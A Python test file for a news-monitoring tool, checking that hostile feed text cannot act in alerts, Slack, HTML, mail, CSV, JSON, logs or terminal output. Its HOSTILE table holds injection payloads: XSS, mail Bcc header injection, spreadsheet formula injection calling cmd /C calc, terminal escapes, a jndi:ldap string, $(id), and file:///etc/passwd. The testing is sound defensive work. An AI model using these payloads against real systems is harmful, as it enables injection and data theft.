"""Content is data: a table of hostile strings goes in through a feed, and nothing that comes out acts on them."""

from __future__ import annotations

import base64
import contextlib
import csv
import dataclasses
import datetime as dt
import hashlib
import io
import json
import logging
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from support_channels import smtp_server, webhook_server
from support_cli import Folder, fill, make_folder
from support_pipeline import MASTUNG, NOON, account
from support_server import Reply, ScriptedServer

from monitor import log
from monitor.alerts.bundle import Entry, render_together
from monitor.alerts.deliver import check_target, deliver
from monitor.alerts.digest import render_digest, summarize
from monitor.alerts.inert import web_link
from monitor.alerts.notice import render_notice, unread_notice
from monitor.alerts.render import render
from monitor.feeds.parse import parse_feed
from monitor.model import Evidence, Feed, FeedState, Fetched, GroupMention, Message, Report, Toll
from monitor.pipeline import Reading
from monitor.store import alerts as alert_rows
from monitor.store import incidents as incident_rows
from monitor.store.columns import storable_or_none
from monitor.store.database import open_database
from monitor.store.feeds import save_feed_state

ESC, CSI, BELL, RTL = "\x1b", "\x9b", "\x07", "\u202e"
HOSTILE = {
    "slack: everybody": "<!channel> <!here|x> <@U012345> <#C012345> @here @everyone @channel",
    "slack: masked link": "<https://evil.example/x|https://bank.example/>",
    "slack: escaped mention": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "slack: mark-up": "*bold* _italic_ ~gone~ `code` :fire: > quote",
    "markdown link": "[bank.example](https://evil.example/x) ![x](https://evil.example/t.png)",
    "html: script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "html: script, doubly escaped": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "html: raw": "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>",
    "html: image": "&lt;img src=x onerror=alert(1)&gt; &lt;iframe src=//evil.example&gt;",
    "html: out of an attribute": '" onmouseover="alert(1)" x=\' onfocus=\'alert(1)',
    "html: out of an element": "&lt;/title&gt;&lt;/style&gt;&lt;/blockquote&gt;&lt;base href=https://evil.example&gt;",
    "bare addresses": "www.evil.example https://evil.example/x javascript:alert(1) data:text/html,x",
    "terminal: colour": f"{ESC}[31mred{ESC}[0m",
    "terminal: clear": f"{ESC}[2J{ESC}[H",
    "terminal: title and clipboard": f"{ESC}]0;owned{BELL}{ESC}]52;c;ZXZpbA=={BELL}",
    "terminal: link": f"{ESC}]8;;https://evil.example{ESC}\\bank.example{ESC}]8;;{ESC}\\",
    "terminal: C1": f"{CSI}31mred{CSI}0m \x90q\x9c",
    "terminal: rich": "[red]red[/red] [link=https://evil.example]bank[/link] [bold",
    "reversed text": f"{RTL}gnp.exe \u2066x\u2069 \u200fy",
    "hidden text": "pass\u200bword \ufeff\u2060\u00ad",
    "NUL and friends": "a\x00b\x08\x08\x7fc\x0bd\x0ce",
    "line breaks": "one\rtwo\nthree\u2028four\u0085five",
    "mail header": "Blast\r\nBcc: all@victims.example\r\nSubject: owned\r\n\r\nbody",
    "mail header, encoded": "=?utf-8?q?Blast=0D=0ABcc:_all=40victims.example?=",
    "formula": '=HYPERLINK("https://evil.example","bank")',
    "formula: command": "+cmd|' /C calc'!A0",
    "formula: minus": "-2+3+cmd|' /C calc'!A0",
    "formula: at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula: tab": "\t=1+1",
    "formula: line break": "\r=1+1",
    "formula: quote": '"=1+1","=2',
    "json": '"}\n{"id": "forged", "kind": "attack"}',
    "log line": 'x\n2026-03-10T12:00:00Z info    deliver channel=desk status=sent\n<0>{"event": "deliver"}',
    "format": "{0.__class__} {title} %s %(x)s ${jndi:ldap://evil.example} {{7*7}} $(id) `id`",
    "half a surrogate": "\ud83d \udcff",
}
LINKS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://bank.example@evil.example/",
    "https://evil.example/\"onclick='x'",
    "https://evil.example/|bank.example",
    "https://xn--bnk-0na.example/",
    "file:///etc/passwd",
    "https://news.example/ok?a=1&b=2",
]
CONTROL = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f{RTL}\u2066\u2069\u200f\u200b\u2028\ufeff]")


def readings() -> list[Reading]:
    """What the parser makes of a feed that has each string in every field, with one attack an item, told in the string itself."""
    entries = [
        {
            "id": f"{number} {text}",
            "url": LINKS[number % len(LINKS)],
            "title": text,
            "summary": text,
            "content_text": f"{text} A courier reports.",
            "date_published": NOON.isoformat(),
        }
        for number, text in enumerate(HOSTILE.values())
    ]
    body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": entries}).encode()
    url = "https://feed.example/feed.json"
    fetched = Fetched(
        url=url, final_url=url, status=200, headers={"content-type": "application/feed+json"}, body=body, fetched_at=NOON, elapsed_s=0.1
    )
    items, bad = parse_feed(fetched, Feed(name="feed", url=url))
    assert len(items) + len(bad) == len(HOSTILE)
    assert len(bad) <= 2, "an entry that is nothing but a script has no words"
    made = []
    for item in items:
        number = int(str(item.guid).partition(" ")[0])
        text = list(HOSTILE.values())[number]
        told = account(killed=number + 1, place=dataclasses.replace(MASTUNG, name=text), date=NOON.date() - dt.timedelta(days=number % 9))
        told = dataclasses.replace(
            told,
            killed=Toll(count=number + 1, min=number + 1, max=number + 1, text=text),
            groups=(GroupMention(id=f"g{number}", name=text, stance="claimed", sentence=text),),
            evidence=(Evidence(field="killed", sentence=text, start=0, end=1),),
            target=text,
        )
        written = dataclasses.replace(item, id=f"i{number}", outlet=text, publisher=f"publisher {number}", feed=f"feed {number}")
        made.append(Reading(item=written, report=Report(kind="attack", incidents=(told,))))
    return made


def messages(folder: Folder) -> Iterator[Message]:
    """Everything that is sent: each alert, a digest, many alerts in one, and the program's own troubles."""
    db = open_database(folder.path / "monitor.db", read_only=True)
    try:
        alerts = alert_rows.alerts(db)
        incidents = list(incident_rows.incidents_between(db, None, None))
    finally:
        db.close()
    assert len(alerts) >= 10
    for alert in alerts:
        for first in (True, False):
            yield render(alert, first_on_channel=first, now=NOON, timezone="Asia/Karachi", may_repeat=True, told=alert.incident)
    yield render_together([Entry(alert=alert) for alert in alerts[:20]], now=NOON, timezone="Asia/Karachi")
    summary = summarize(incidents, begin=NOON - dt.timedelta(days=90), end=NOON + dt.timedelta(days=90), timezone="Asia/Karachi")
    yield render_digest(summary, name="daily", now=NOON, timezone="Asia/Karachi")
    for one in readings():
        title, text = unread_notice(dataclasses.replace(one.item, id=one.item.title), f"ValueError: {one.item.title}")
        yield render_notice(title, text.splitlines())
    yield render_notice("feed x is gone", ["https://feed.example/rss answers 410", *HOSTILE["line breaks"].splitlines()])


COMMANDS = {
    "items": ["items", "list"],
    "items search": ["items", "search", "x"],
    "incidents": ["incidents"],
    "alerts": ["alerts", "list"],
    "feeds status": ["feeds", "status"],
    "backfill": ["backfill", "past.jsonl", "--dry-run"],
    "json: feeds status": ["feeds", "status", "--json"],
    "json: analyze": ["analyze", "past.jsonl"],
    "json: items": ["items", "--json"],
    "json: incidents": ["incidents", "--json"],
    "json: alerts": ["alerts", "list", "--json"],
    "json: geojson": ["incidents", "--geojson"],
    "json: backfill": ["backfill", "past.jsonl", "--dry-run", "--json"],
    "csv: incidents": ["incidents", "--csv"],
    "csv: backfill": ["backfill", "past.jsonl", "--dry-run", "--csv"],
}
DISTRICTS = ("Mastung", "Quetta", "Bannu", "Peshawar", "Karachi", "Lahore", "Chaman", "Swat", "Tank", "Gwadar", "Multan", "Zhob")


def past(path: Path) -> str:
    """A file of stories that the real reader reads, each string in its title, its text and its outlet's name."""
    with path.open("w") as file:
        for number, text in enumerate(HOSTILE.values()):
            words = f"{text} A bomb killed {number + 2} policemen in {DISTRICTS[number % len(DISTRICTS)]} on Tuesday."
            at = NOON - dt.timedelta(days=7 * (number // len(DISTRICTS)))
            form = {"id": f"p{number}", "title": words, "outlet": text, "published": at.isoformat(), "link": LINKS[number % len(LINKS)]}
            file.write(json.dumps(form) + "\n")
    return str(path)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    """Output → its texts."""
    addresses = [f"https://f{number}.example/" for number in range(len(HOSTILE))]
    config = "".join(f'[[feeds]]\nname = "f{number}"\nurl = "{address}"\n' for number, address in enumerate(addresses))
    folder = make_folder(tmp_path_factory.mktemp("desk") / "news", config=config)
    fill(folder, readings(), notify=True)
    with contextlib.closing(open_database(folder.path / "monitor.db")) as db:
        for address, text in zip(addresses, HOSTILE.values(), strict=True):
            known = storable_or_none(f'is an HTML page titled "{text}"')
            save_feed_state(db, FeedState(url=address, last_polled_at=NOON, failures=3, last_status="page", last_error=known))
    made: dict[str, list[str]] = {"title": [], "text": [], "html": [], "slack": []}
    for message in messages(folder):
        for form, texts in made.items():
            texts.append(str(getattr(message, form)))
    source = past(folder.path / "past.jsonl")
    stderr = []
    for name, words in COMMANDS.items():
        result = folder.run(*(source if word == "past.jsonl" else word for word in words))
        assert result.exit_code == 0, (name, result.output)
        assert result.stdout, name
        made[name] = [result.stdout]
        stderr.append(result.stderr)
    shown = [json.loads(line)["id"] for line in made["json: incidents"][0].splitlines()]
    told = [json.loads(line)["alert"] for line in made["json: alerts"][0].splitlines()]
    made["incidents show"] = [folder.run("incidents", "show", one).stdout for one in shown]
    made["alerts show"] = [folder.run("alerts", "show", one).stdout for one in told]
    made["items show"] = [folder.run("items", "show", one.item.id).stdout for one in readings()]
    made["stderr"] = [*stderr, *refused(folder)]
    made["rules explain"] = [folder.run("rules", "explain", shown[0]).stdout]
    page = folder.path / "page.html"
    assert folder.run("backfill", source, "--dry-run", "--report", str(page)).exit_code == 0
    made["report"] = [page.read_text()]
    made["log: text"], made["log: json"] = list(logged("text")), list(logged("json"))
    return made


def refused(folder: Folder) -> Iterator[str]:
    """What `feeds add` says of web pages with these titles and types, and of feeds that break off there."""
    with ScriptedServer() as server:
        for number, text in enumerate(HOSTILE.values()):
            title = text.encode("utf-8", "surrogatepass")
            server.script(
                f"/page{number}", Reply(body=b"<html><title>" + title + b"</title></html>", headers={"Content-Type": "text/html"})
            )
            server.script(f"/other{number}", Reply(body=title * 5))
            for path in ("page", "other"):
                result = folder.run("feeds", "add", server.url(f"/{path}{number}"), "--allow-private")
                assert result.exit_code == 1, result.output
                yield result.stderr


def logged(style: str) -> Iterator[str]:
    """Each string as a feed's error, as another library's line, and in a traceback."""
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    root.handlers[:] = []  # pytest's own would keep the strings for its report, which half a surrogate breaks
    stream = io.StringIO()
    log.configure(style=style, level="debug", stream=stream)  # type: ignore[arg-type]
    try:
        for text in HOSTILE.values():
            log.logger().warning("poll", feed=text, error=text)
            logging.getLogger("library").warning("failed: %s", text)
            try:
                raise ValueError(text)
            except ValueError:
                log.logger().exception("poll", status="bug")
    finally:
        root.handlers[:] = before
        root.setLevel(level)
    yield stream.getvalue()


# ---------------------------------------------------------------- what would act, by output


def acts_on_a_terminal(text: str) -> list[str]:
    return [repr(found) for found in CONTROL.findall(text)]


def acts_in_slack(text: str) -> list[str]:
    found = acts_on_a_terminal(text)
    for inside in re.findall(r"<([^>]*)>?", text):
        address, _, label = inside.partition("|")
        link = web_link(address.replace("&amp;", "&"))
        if link is None or link[1] not in label.replace("\u2060", ""):
            found.append(f"<{inside}>")
    bare = re.sub(r"<[^>]*>", "", text)
    calls = ("@here", "@channel", "@everyone", ":fire:", "*bold*", "_italic_", "~gone~", "`code`", "javascript:alert")
    return found + [call for call in calls if call in bare]


def acts_in_a_text(text: str) -> list[str]:
    """A chat or a mail client makes links of addresses: only those of the message's own sources may stand there."""
    found = acts_on_a_terminal(text)
    addresses = re.findall(r"\S*://\S*", text)
    found += [one for one in addresses if web_link(one.strip("()<>,.")) is None]
    return found + [call for call in ("@here", "@channel", "@everyone", "javascript:alert", "www.evil.example") if call in text]


def acts_as_a_title(text: str) -> list[str]:
    return [*acts_on_a_terminal(text), *(["a line break"] if len(text.splitlines()) > 1 else [])]


class _Page(HTMLParser):
    """Tags and attributes that no text may bring along; where links lead and what they say."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.policy = ""
        self._script = False
        self._href: tuple[str, str] | None = None
        self._label = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        own = tag == "img" and str(named.get("src", "")).startswith("cid:")  # a mail's chart is a part of the mail
        if tag in ("img", "iframe", "object", "embed", "base", "link") and not own:
            self.found.append(f"<{tag}>")
        self.found += [f"{tag} {name}" for name in named if name.startswith("on") or name in ("action", "formaction")]
        if named.get("http-equiv"):
            self.policy = str(named.get("content"))
        self._script = tag == "script"
        if tag == "a" and not str(named.get("href")).startswith("#"):
            self._href, self._label = web_link(named.get("href")) or ("", ""), ""
            if self._href == ("", ""):
                self.found.append(f"a href={named.get('href')}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._href is not None:
            if self._href[1] not in self._label.replace("\u2060", ""):
                self.found.append(f"a link to {self._href[0]} that says {self._label}")
            self._href = None
        self._script = False

    def handle_data(self, data: str) -> None:
        self._label += data
        if self._script:
            digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
            if digest not in self.policy:
                self.found.append(f"a script: {data[:40]}")


def acts_in_html(text: str) -> list[str]:
    page = _Page()
    page.feed(text)
    page.close()
    return page.found + acts_on_a_terminal(text)


def acts_in_json(text: str) -> list[str]:
    found = acts_on_a_terminal(text)
    for line in text.splitlines():
        form = json.loads(line)
        found += ["a forged object"] if form.get("id") == "forged" or form.get("event") == "deliver" else []
        found += [one for one in re.findall(r'"link": "([^"]*)"', line) if not one.startswith(("http://", "https://"))]
    return found


def acts_in_a_spreadsheet(text: str) -> list[str]:
    header, *lines = list(csv.reader(io.StringIO(text, newline="")))
    found = [cell for line in lines for cell in line if cell.lstrip()[:1] in tuple("=+-@\t\r") and not _number(cell)]
    found += [f"a line of {len(line)} cells" for line in lines if len(line) != len(header)]
    return found + [repr(cell) for line in lines for cell in line if CONTROL.search(cell)]


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def acts_in_a_log(text: str) -> list[str]:
    own = re.compile(r"\d{4}-\d\d-\d\dT[\d:]+Z (warning|error  ) (poll |failed: )")
    return acts_on_a_terminal(text) + [line for line in text.splitlines() if not line.startswith("  ") and not own.match(line)]


ACTS: dict[str, Callable[[str], list[str]]] = {
    "title": acts_as_a_title,
    "text": acts_in_a_text,
    "html": acts_in_html,
    "slack": acts_in_slack,
    "report": acts_in_html,
    "log: text": acts_in_a_log,
    "log: json": acts_in_json,
    **{name: acts_in_json for name in COMMANDS if name.startswith("json")},
    **{name: acts_in_a_spreadsheet for name in COMMANDS if name.startswith("csv")},
    **{name: acts_on_a_terminal for name in COMMANDS if ":" not in name},
    "items show": acts_on_a_terminal,
    "stderr": acts_on_a_terminal,
    "incidents show": acts_on_a_terminal,
    "alerts show": acts_on_a_terminal,
    "rules explain": acts_on_a_terminal,
}


@pytest.mark.parametrize("name", ACTS)
def test_nothing_that_a_feed_says_acts(outputs: dict[str, list[str]], name: str) -> None:
    """No markup, mention, masked link, header, terminal escape or formula, in any output."""
    texts = outputs[name]
    assert texts
    assert [found for text in texts for found in ACTS[name](text)] == []


def test_every_output_is_judged(outputs: dict[str, list[str]]) -> None:
    """None is left out of the table, and each of them shows what the feed said."""
    assert set(outputs) == set(ACTS)
    for name, texts in outputs.items():
        said = "".join(texts)
        assert name in ("items search", "rules explain", "backfill") or any(
            words in said for words in ("HYPERLINK", "calc", "jndi", "owned")
        ), name


@pytest.mark.parametrize(
    ("judge", "text"),
    [
        (acts_on_a_terminal, HOSTILE["terminal: colour"]),
        (acts_in_slack, HOSTILE["slack: everybody"]),
        (acts_in_slack, HOSTILE["slack: masked link"]),
        (acts_in_slack, HOSTILE["slack: mark-up"]),
        (acts_in_a_text, HOSTILE["bare addresses"]),
        (acts_as_a_title, HOSTILE["mail header"]),
        (acts_in_html, HOSTILE["html: raw"]),
        (acts_in_html, '<a href="https://evil.example/">bank.example</a>'),
        (acts_in_html, '<a href="javascript:alert(1)">x</a>'),
        (acts_in_json, '{"id": "forged"}'),
        (acts_in_json, '{"link": "javascript:alert(1)"}'),
        (acts_in_a_spreadsheet, 'a,b\n"=1+1",x\n'),
        (acts_in_a_spreadsheet, "a,b\n1,2,3\n"),
        (acts_in_a_log, HOSTILE["log line"]),
    ],
)
def test_the_judges_can_find_fault(judge: Callable[[str], list[str]], text: str) -> None:
    """A judge that finds nothing in the raw string would prove nothing."""
    assert judge(text)


def test_a_mail_has_no_header_and_a_webhook_no_key_of_a_feeds(tmp_path: Path) -> None:
    """Through real servers: the headers of a mail and the keys of a webhook's object are the program's own."""
    folder = make_folder(tmp_path / "news")
    wanted = ("mail header", "mail header, encoded", "line breaks", "json")
    chosen = [one for one in readings() if list(HOSTILE)[int(one.item.id[1:])] in wanted]
    fill(folder, chosen, notify=True)
    sent = [one for one in messages_of(folder) if one.html]
    with smtp_server() as box, webhook_server() as hook:
        for message in sent:
            deliver(message, check_target(box.url), timeout_s=10)
            deliver(message, check_target(hook.url), timeout_s=10)
    assert len(box.mails) == len(hook.posts) == len(sent) >= 1
    for mail in box.mails:
        assert mail["Bcc"] is None
        assert "victims.example" not in str(mail["To"])
        assert len(mail.get_all("Subject", [])) == 1
        assert "\n" not in str(mail["Subject"])
    assert {key for post in hook.posts for key in post} <= {"version", "title", "message", "type", "attachments", "thread"}


def messages_of(folder: Folder) -> list[Message]:
    db = open_database(folder.path / "monitor.db", read_only=True)
    try:
        found = alert_rows.alerts(db)
    finally:
        db.close()
    return [render(alert, first_on_channel=True, now=NOON, timezone="Asia/Karachi") for alert in found]
